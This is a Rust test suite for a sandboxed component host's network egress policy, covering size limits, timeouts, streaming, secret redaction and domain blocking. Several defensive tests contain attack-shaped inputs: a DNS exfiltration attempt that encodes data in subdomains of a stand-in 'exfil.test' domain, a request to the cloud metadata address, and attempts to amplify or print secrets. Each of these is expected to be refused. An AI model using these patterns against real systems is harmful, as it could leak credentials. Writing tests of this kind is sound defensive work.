fn oversize_request_body_is_request_too_large() {
    let server = TestServer::start();
    let mut e = loopback();
    e.max_request_bytes = 100;
    let calls = json!([
        {"fn": "fetch", "req": {"method": "POST", "url": server.url("/echo"), "body": "x".repeat(101)}},
        // Within the limit before substitution, over it after.
        {"fn": "fetch", "req": {"method": "POST", "url": server.url("/echo"), "body": format!("{}{{{{secret:API_KEY}}}}", "y".repeat(80))}},
        {"fn": "fetch", "req": {"method": "POST", "url": server.url("/echo"), "multipart": [{"name": "f", "data": base64(&[0u8; 200])}]}},
        {"fn": "fetch", "req": {"method": "POST", "url": server.url("/echo"), "body": "x".repeat(100)}},
    ]);
    let (results, outcome) = run_probe(&ctx(e), calls);
    for r in &results[..3] {
        assert_eq!(error_type(r), "request_too_large", "{r}");
    }
    assert_eq!(results[3]["status"], 200);
    assert_eq!(server.requests().len(), 1);
    assert_no_secret(&outcome);
}

fn base64(data: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(data)
}

#[test]
fn oversize_response_is_response_too_large() {
    warm();
    let server = TestServer::start();
    let mut e = loopback();
    e.max_response_bytes = 1000;
    let calls = json!([
        fetch(&server.url("/big?n=5000")),
        // 100 000 chunks 5 ms apart: read to the end it would take minutes and end as a
        // `timeout`; reading stops at the cap, after a few hundred milliseconds.
        fetch(&server.url("/stream?chunks=100000&ms=5")),
        fetch(&server.url("/big?n=1000")),
        fetch(&server.url("/big?n=900&chunked=1")),
    ]);
    let (results, _) = run_probe(&ctx(e), calls);
    assert_eq!(error_type(&results[0]), "response_too_large");
    assert_eq!(
        error_type(&results[1]),
        "response_too_large",
        "{}",
        results[1]
    );
    assert_eq!(results[2]["body"].as_str().unwrap().len(), 1000);
    assert_eq!(results[3]["body"].as_str().unwrap().len(), 900);
}

#[test]
fn slow_server_is_a_timeout_and_the_run_goes_on() {
    warm();
    let server = TestServer::start();
    let mut c = ctx(loopback());
    c.options.request_timeout = Duration::from_millis(800);
    let calls = json!([
        fetch(&server.url("/slow?ms=5000")),
        fetch(&server.url("/ok"))
    ]);
    let started = Instant::now();
    let (results, outcome) = run_probe(&c, calls);
    let elapsed = started.elapsed();
    assert_eq!(error_type(&results[0]), "timeout");
    assert_eq!(results[1]["status"], 200);
    assert!(elapsed < Duration::from_secs(4), "{elapsed:?}");
    assert_eq!(outcome.refusals[0].kind, "timeout");
}

#[test]
fn a_slow_server_cannot_outlive_the_execution_timeout() {
    warm();
    let server = TestServer::start();
    // Default 30 s per request, but the execution has 1.5 s: the call is cut short so the
    // guest still returns in time.
    let limits = Limits {
        timeout: Duration::from_millis(1500),
        ..Limits::default()
    };
    let started = Instant::now();
    let (results, _) = run_probe_limits(
        &ctx(loopback()),
        json!([fetch(&server.url("/slow?ms=20000"))]),
        &limits,
    );
    assert_eq!(error_type(&results[0]), "timeout");
    assert!(
        started.elapsed() < Duration::from_secs(3),
        "{:?}",
        started.elapsed()
    );
    // And a guest that keeps calling after the deadline is stopped by the execution timeout.
    let calls: Vec<Value> = (0..20)
        .map(|_| fetch(&server.url("/slow?ms=20000")))
        .collect();
    let started = Instant::now();
    let input = json!({ "calls": calls }).to_string();
    let r = executor().run_catalyst(&digest("catalyst-probe"), &input, &limits, &ctx(loopback()));
    match r {
        Ok(o) => {
            let out: Value = serde_json::from_str(&o.output).unwrap();
            assert!(out["results"]
                .as_array()
                .unwrap()
                .iter()
                .all(|r| error_type(r) == "timeout"));
        }
        Err(e) => assert_eq!(e, ExecError::Timeout { limit_ms: 1500 }),
    }
    assert!(
        started.elapsed() < Duration::from_secs(3),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn name_lookups_count_against_the_request_budget() {
    let server = TestServer::start();
    let resolver = TestResolver::new(&[("localhost", &["127.0.0.1"])]);
    let mut e = loopback();
    e.allowed_domains.push("*.exfil.test".into());
    e.max_requests = 2;
    let c = with_resolver(ctx(e), resolver.clone());
    // Names under a wildcard the guest's owner controls could carry data to its DNS server.
    let calls = json!([
        fetch("http://c2stdGVzdA.exfil.test/"),
        fetch("http://U0VDUkVU.exfil.test/"),
        fetch("http://more.exfil.test/"),
        fetch(&server.url("/ok")),
    ]);
    let (results, _) = run_probe(&c, calls);
    assert_eq!(error_type(&results[0]), "dns_error");
    assert_eq!(error_type(&results[1]), "dns_error");
    assert_eq!(error_type(&results[2]), "rate_limited");
    assert_eq!(error_type(&results[3]), "rate_limited");
    assert_eq!(resolver.lookups.load(Ordering::SeqCst), 2);
    assert!(server.requests().is_empty());
}

#[test]
fn many_references_to_a_secret_are_refused_before_they_fill_memory() {
    let server = TestServer::start();
    let mut e = loopback();
    e.max_request_bytes = 1024;
    let mut c = ctx(e);
    let big = "k".repeat(4096);
    c.secrets.insert("BIG".into(), big.clone());
    let many = "{{secret:BIG}}".repeat(20_000);
    let calls = json!([
        {"fn": "fetch", "req": {"method": "POST", "url": server.url("/echo"), "body": many}},
        {"fn": "fetch", "req": {"url": server.url("/echo"), "headers": {"x-big": many}}},
        {"fn": "fetch", "req": {"url": server.url("/echo"), "headers": {"x-one": "{{secret:BIG}}"}}},
    ]);
    let (results, outcome) = run_probe(&c, calls);
    assert_eq!(
        error_type(&results[0]),
        "request_too_large",
        "{}",
        results[0]
    );
    assert_eq!(
        error_type(&results[1]),
        "request_too_large",
        "{}",
        results[1]
    );
    assert_eq!(
        results[2]["status"], 200,
        "one long secret in a header is fine"
    );
    assert_eq!(server.requests().len(), 1);
    assert!(!outcome.output.contains(&big));
}

#[test]
fn a_secret_echoed_escaped_or_line_wrapped_is_redacted_and_compressed_bodies_are_refused() {
    let server = TestServer::start();
    let calls = json!([
        {"fn": "fetch", "req": {"method": "GET", "url": server.url("/escaped"), "headers": {"x-api-key": "{{secret:API_KEY}}"}}},
        {"fn": "fetch", "req": {"method": "GET", "url": server.url("/gzip"), "headers": {"x-api-key": "{{secret:API_KEY}}"}}},
        {"fn": "stream", "req": {"method": "GET", "url": server.url("/escaped"), "headers": {"x-api-key": "{{secret:API_KEY}}"}}},
        {"fn": "read_all", "of": 2},
    ]);
    let (results, outcome) = run_probe(&ctx(loopback()), calls);
    let body = results[0]["body"].as_str().unwrap_or_default();
    assert_eq!(results[0]["status"], 200, "{}", results[0]);
    for line in ["pct=[REDACTED]", "json=[REDACTED]", "html=[REDACTED]"] {
        assert!(body.contains(line), "{line} missing from {body}");
    }
    // Not a run of 8 base64 characters of the wrapped key is left.
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD.encode(SECRET.repeat(3));
    for i in 0..b64.len().saturating_sub(12) {
        assert!(
            !body.replace('\n', "").contains(&b64[i..i + 8]),
            "{} left in {body}",
            &b64[i..i + 8]
        );
    }
    assert_eq!(error_type(&results[1]), "http_error", "{}", results[1]);
    assert!(
        results[1].to_string().contains("Content-Encoding"),
        "{}",
        results[1]
    );
    // Streamed, the same spellings never get out either, whatever the chunking.
    let streamed = results[3]["data"].as_str().unwrap_or_default();
    for line in ["pct=[REDACTED]", "json=[REDACTED]", "html=[REDACTED]"] {
        assert!(
            streamed.contains(line),
            "{line} missing from the stream: {}",
            results[3]
        );
    }
    assert_no_secret(&outcome);
}

#[test]
fn compression_is_never_asked_for_and_bodiless_responses_pass_any_length() {
    let server = TestServer::start();
    let mut e = loopback();
    e.allowed_methods.push("HEAD".into());
    e.max_response_bytes = 1000;
    let calls = json!([
        {"fn": "fetch", "req": {"url": server.url("/echo"), "headers": {"accept-encoding": "gzip, br"}}},
        {"fn": "fetch", "req": {"method": "HEAD", "url": server.url("/big?n=100000")}},
        fetch(&server.url("/big?n=100000")),
    ]);
    let (results, _) = run_probe(&ctx(e), calls);
    // A compressed body would carry a secret past redaction: the host asks for identity.
    assert_eq!(
        server.requests()[0].header("accept-encoding"),
        Some("identity")
    );
    assert_eq!(results[1]["status"], 200, "{}", results[1]);
    assert_eq!(
        results[1]["headers"]["content-length"], "100000",
        "{}",
        results[1]
    );
    assert_eq!(error_type(&results[2]), "response_too_large");
}

#[test]
fn request_budget_is_rate_limited() {
    let server = TestServer::start();
    let mut e = loopback();
    e.max_requests = 3;
    let calls = json!([
        fetch(&server.url("/ok")),
        fetch(&server.url("/redirect")), // two requests: the redirect and /ok
        fetch(&server.url("/ok")),
    ]);
    let (results, _) = run_probe(&ctx(e), calls);
    assert_eq!(results[0]["status"], 200);
    assert_eq!(results[1]["status"], 200);
    assert_eq!(error_type(&results[2]), "rate_limited");
    assert_eq!(server.requests().len(), 3);
}

// ---------------------------------------------------------------------------------------
// Streaming

#[test]
fn streams_read_until_done_and_a_fourth_open_stream_is_stream_limit() {
    let server = TestServer::start();
    let s = |path: &str| json!({"fn": "stream", "req": {"method": "GET", "url": server.url(path)}});
    let calls = json!([
        s("/stream?chunks=3"),                // 0
        s("/stream?chunks=2"),                // 1
        s("/ok"),                             // 2
        s("/ok"),                             // 3: the fourth open stream
        {"fn": "read_all", "of": 0},          // 4
        {"fn": "read", "of": 0},              // 5: still done
        {"fn": "close", "of": 0},             // 6
        {"fn": "read", "of": 0},              // 7: closed
        s("/ok"),                             // 8: a slot is free again
        {"fn": "read_all", "of": 8},          // 9
        {"fn": "close", "handle": "nope"},    // 10
        {"fn": "read", "handle": "nope"},     // 11
        {"fn": "close", "of": 1},
        {"fn": "close", "of": 2},
        {"fn": "close", "of": 8},
    ]);
    let (results, _) = run_probe(&ctx(loopback()), calls);
    assert!(results[0]["handle"].as_str().is_some(), "{}", results[0]);
    assert_eq!(results[0]["status"], 200);
    assert_eq!(results[0]["headers"]["content-type"], "text/event-stream");
    assert_eq!(error_type(&results[3]), "stream_limit");
    assert_eq!(
        results[4]["data"],
        "data: {\"n\":0}\n\ndata: {\"n\":1}\n\ndata: {\"n\":2}\n\n"
    );
    assert_eq!(results[5], json!({"data": "", "done": true}));
    assert_eq!(results[6], json!({"ok": true}));
    assert_eq!(error_type(&results[7]), "invalid_handle");
    assert_eq!(results[9]["data"], "hello");
    assert_eq!(error_type(&results[10]), "invalid_handle");
    assert_eq!(error_type(&results[11]), "invalid_handle");
    for r in &results[12..] {
        assert_eq!(r, &json!({"ok": true}));
    }
}

#[test]
fn streams_count_against_the_response_budget_together_and_time_out() {
    warm();
    let server = TestServer::start();
    let mut e = loopback();
    e.max_response_bytes = 1000;
    let s = |path: &str| json!({"fn": "stream", "req": {"method": "GET", "url": server.url(path)}});
    let calls = json!([
        s("/big?n=600&chunked=1"),
        {"fn": "read_all", "of": 0},
        s("/big?n=600&chunked=1"),
        {"fn": "read_all", "of": 2},
        s("/big?n=5000"),            // known too large from Content-Length
        {"fn": "read", "of": 2},     // closed after the overrun
    ]);
    let (results, _) = run_probe(&ctx(e), calls);
    assert_eq!(results[1]["data"].as_str().unwrap().len(), 600);
    assert_eq!(error_type(&results[3]), "response_too_large");
    assert_eq!(error_type(&results[4]), "response_too_large");
    assert_eq!(error_type(&results[5]), "invalid_handle");

    let mut c = ctx(loopback());
    c.options.stream_timeout = Duration::from_millis(700);
    let calls = json!([
        {"fn": "stream", "req": {"url": server.url("/stream?chunks=20&ms=200")}},
        {"fn": "read_all", "of": 0},
        {"fn": "read", "of": 0},
    ]);
    let started = Instant::now();
    let (results, _) = run_probe(&c, calls);
    assert_eq!(error_type(&results[1]), "timeout", "{}", results[1]);
    assert_eq!(
        error_type(&results[2]),
        "invalid_handle",
        "auto-closed after its timeout"
    );
    assert!(started.elapsed() < Duration::from_secs(3));
}

#[test]
fn streamed_secrets_are_redacted_even_across_chunks() {
    let server = TestServer::start();
    let calls = json!([
        {"fn": "stream", "req": {"method": "POST", "url": server.url("/echo"), "headers": {"x-api-key": "{{secret:API_KEY}}"}, "body": "{{secret:API_KEY}}"}},
        {"fn": "read_all", "of": 0},
    ]);
    let (results, outcome) = run_probe(&ctx(loopback()), calls);
    assert_eq!(results[0]["headers"]["x-echoed-key"], "[REDACTED]");
    let echo: Value = serde_json::from_str(results[1]["data"].as_str().unwrap()).unwrap();
    assert_eq!(echo["body"], "[REDACTED]");
    assert_eq!(echo["headers"]["x-api-key"], "[REDACTED]");
    assert_eq!(server.requests()[0].body, SECRET.as_bytes());
    assert_no_secret(&outcome);
}

#[test]
fn stream_requests_are_held_to_the_same_policy() {
    let server = TestServer::start();
    let calls = json!([
        {"fn": "stream", "req": {"url": format!("http://127.0.0.1:{}/ok", server.port)}},
        {"fn": "stream", "req": {"method": "DELETE", "url": server.url("/ok")}},
        {"fn": "stream", "req": {"url": server.url("/ok"), "headers": {"k": "{{secret:NOPE}}"}}},
    ]);
    let (results, _) = run_probe(&ctx(loopback()), calls);
    assert_eq!(error_type(&results[0]), "domain_blocked");
    assert_eq!(error_type(&results[1]), "method_blocked");
    assert_eq!(
        results[2]["error"]["message"],
        format!("access-denied: NOPE not granted to {REF}")
    );
    assert!(server.requests().is_empty());
}

// ---------------------------------------------------------------------------------------
// The catalysts shipped in components/

#[test]
fn http_catalyst_follows_the_catalyst_io_convention() {
    let server = TestServer::start();
    let run = |input: Value| -> (Value, ExecOutcome) {
        let o = executor()
            .run_catalyst(
                &digest("http-catalyst"),
                &input.to_string(),
                &Limits::default(),
                &ctx(loopback()),
            )
            .unwrap();
        (serde_json::from_str(&o.output).unwrap(), o)
    };
    let (out, o) = run(json!({"operation": "request", "params": {
        "method": "POST", "url": server.url("/echo"),
        "headers": {"authorization": "Bearer {{secret:API_KEY}}"}, "body": "hi"}}));
    assert_eq!(out["status"], 200, "{out}");
    assert_eq!(out["data"]["status"], 200);
    let echo: Value = serde_json::from_str(out["data"]["body"].as_str().unwrap()).unwrap();
    assert_eq!(echo["headers"]["authorization"], "Bearer [REDACTED]");
    assert_eq!(
        server.requests()[0].header("authorization"),
        Some(format!("Bearer {SECRET}").as_str())
    );
    assert_no_secret(&o);

    let (out, _) =
        run(json!({"operation": "request", "params": {"url": "http://169.254.169.254/"}}));
    assert_eq!(out["status"], 403);
    assert_eq!(out["error"]["type"], "domain_blocked");
    let (out, _) =
        run(json!({"operation": "stream", "params": {"url": server.url("/stream?chunks=2")}}));
    assert_eq!(
        out["data"]["body"],
        "data: {\"n\":0}\n\ndata: {\"n\":1}\n\n"
    );
    let (out, _) = run(json!({"operation": "explode", "params": {"url": "x"}}));
    assert_eq!(out["status"], 400);
    assert_eq!(out["error"]["type"], "invalid_input");
}

#[test]
fn claude_catalyst_calls_the_messages_api_with_the_injected_key() {
    let server = TestServer::start();
    let mut secrets = BTreeMap::new();
    secrets.insert("ANTHROPIC_API_KEY".to_string(), SECRET.to_string());
    let mut e = loopback();
    e.rules = vec![
        "POST localhost/v1/messages".into(),
        "GET localhost/v1/models".into(),
    ];
    let c = CatalystCtx::new("catalyst:local.claude:0.1.0", secrets, e);
    let run = |input: Value| -> (Value, ExecOutcome) {
        let o = executor()
            .run_catalyst(
                &digest("claude-catalyst"),
                &input.to_string(),
                &Limits::default(),
                &c,
            )
            .unwrap();
        (serde_json::from_str(&o.output).unwrap(), o)
    };
    let base_url = format!("http://localhost:{}", server.port);
    let (out, o) = run(json!({"operation": "messages.create", "params": {
        "base_url": base_url, "model": "claude-test", "max_tokens": 16,
        "messages": [{"role": "user", "content": "hello"}]}}));
    assert_eq!(out["status"], 200, "{out}");
    assert_eq!(out["data"]["content"][0]["text"], "echo: hello");
    assert_eq!(out["data"]["model"], "claude-test");
    let req = &server.requests()[0];
    assert_eq!(
        (req.method.as_str(), req.path.as_str()),
        ("POST", "/v1/messages")
    );
    assert_eq!(req.header("x-api-key"), Some(SECRET));
    assert_eq!(req.header("anthropic-version"), Some("2023-06-01"));
    let sent: Value = serde_json::from_slice(&req.body).unwrap();
    assert_eq!(sent["model"], "claude-test");
    assert!(
        sent.get("base_url").is_none(),
        "base_url must not be sent: {sent}"
    );
    assert_no_secret(&o);

    let (out, _) = run(json!({"operation": "messages.create", "params": {
        "base_url": base_url, "model": "claude-test", "max_tokens": 16, "stream": true,
        "messages": [{"role": "user", "content": "streamed"}]}}));
    assert_eq!(out["status"], 200, "{out}");
    assert_eq!(out["data"]["events"][1]["delta"]["text"], "echo: streamed");
    let (out, _) = run(json!({"operation": "models.list", "params": {"base_url": base_url}}));
    assert_eq!(out["data"]["data"][0]["id"], "claude-test");
    // The default base URL is not allowed by this policy: refused by the host.
    let (out, _) = run(
        json!({"operation": "messages.create", "params": {"model": "m", "max_tokens": 1, "messages": []}}),
    );
    assert_eq!(out["error"]["type"], "domain_blocked");
    assert_eq!(out["status"], 403);
    let (out, _) = run(
        json!({"operation": "messages.create", "params": {"base_url": base_url, "model": "m"}}),
    );
    assert_eq!(out["status"], 400);
}

#[test]
fn components_run_only_as_their_own_world() {
    let err = executor()
        .run_catalyst(
            &digest("json-transform"),
            "{}",
            &Limits::default(),
            &ctx(loopback()),
        )
        .unwrap_err();
    assert!(
        matches!(&err, ExecError::InvalidComponent(m) if m.contains("cyfr:catalyst/catalyst")),
        "{err:?}"
    );
    let err = executor()
        .run_reagent(&digest("catalyst-probe"), "{}", &Limits::default())
        .unwrap_err();
    assert!(matches!(&err, ExecError::InvalidComponent(_)), "{err:?}");
    // Both still run as what they are.
    assert!(executor()
        .run_reagent(
            &digest("json-transform"),
            r#"{"data":[1]}"#,
            &Limits::default()
        )
        .is_ok());
    let (results, _) = run_probe(
        &ctx(loopback()),
        json!([{"fn": "secret", "name": "API_KEY"}]),
    );
    assert_eq!(results[0]["ok"], "[REDACTED]");
}

// ---------------------------------------------------------------------------------------
// The host API

#[test]
fn catalyst_ctx_debug_shows_secret_names_only() {
    let text = format!("{:?}", ctx(loopback()));
    assert!(text.contains("API_KEY"), "{text}");
    assert!(!text.contains(SECRET), "{text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn host_api_runs_catalysts_under_their_egress_and_logs_refusals() {
    use cyfr_host::service::HostApi;
    let server = TestServer::start();
    let exec = Executor::new(&workspace_dir().join("target/wasm/catalyst-tests-cache")).unwrap();
    exec.put_artifact(&digest("catalyst-probe"), wasm("catalyst-probe"))
        .unwrap();
    let api = HostApi::new(Arc::new(exec), workspace_dir());
    let post = |body: Value| {
        http::Request::builder()
            .method("POST")
            .uri(cyfr_core::host_api::RUN_PATH)
            .body(Bytes::from(body.to_string()))
            .unwrap()
    };
    let calls = json!([
        fetch(&format!("http://127.0.0.1:{}/ok", server.port)),
        fetch(&server.url("/ok")),
        {"fn": "print_secret", "name": "API_KEY"},
    ]);
    let mut run = json!({
        "execution_id": "exec_test",
        "digest": digest("catalyst-probe"),
        "component_type": "catalyst",
        "input": json!({"calls": calls}).to_string(),
        "limits": {"timeout_ms": 10000, "max_memory_bytes": 67108864, "max_input_bytes": 1048576, "max_output_bytes": 5242880},
        "reference": REF,
        "secrets": {"API_KEY": SECRET},
    });
    // A catalyst without an egress policy is not run.
    let resp = api.respond(post(run.clone())).await;
    assert_eq!(resp.status(), 400);
    assert!(String::from_utf8_lossy(resp.body()).contains("policy_required"));

    run["egress"] = serde_json::to_value(loopback()).unwrap();
    let resp = api.respond(post(run.clone())).await;
    assert_eq!(resp.status(), 200);
    let body = String::from_utf8_lossy(resp.body()).into_owned();
    assert!(!body.contains(SECRET), "{body}");
    let answer: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(answer["status"], "completed", "{answer}");
    let out: Value = serde_json::from_str(answer["output"].as_str().unwrap()).unwrap();
    assert_eq!(error_type(&out["results"][0]), "domain_blocked");
    assert_eq!(out["results"][1]["status"], 200);
    let stderr = answer["stderr"].as_str().unwrap();
    assert!(stderr.starts_with("the secret is [REDACTED]\n"), "{stderr}");
    assert!(
        stderr.contains(&format!("cyfr egress: refused domain_blocked GET http://127.0.0.1:{}/ok: IP address 127.0.0.1 is not allowed", server.port)),
        "{stderr}"
    );
    assert_eq!(answer["stdout"], "the secret is [REDACTED]\n");

    // A formula without a way back to its router is not run.
    run["component_type"] = json!("formula");
    let resp = api.respond(post(run.clone())).await;
    assert_eq!(resp.status(), 400);
    assert!(String::from_utf8_lossy(resp.body()).contains("without a callback"));
    run["component_type"] = json!("plugin");
    let resp = api.respond(post(run)).await;
    assert_eq!(resp.status(), 400);
    assert!(String::from_utf8_lossy(resp.body()).contains("unsupported_type"));
}
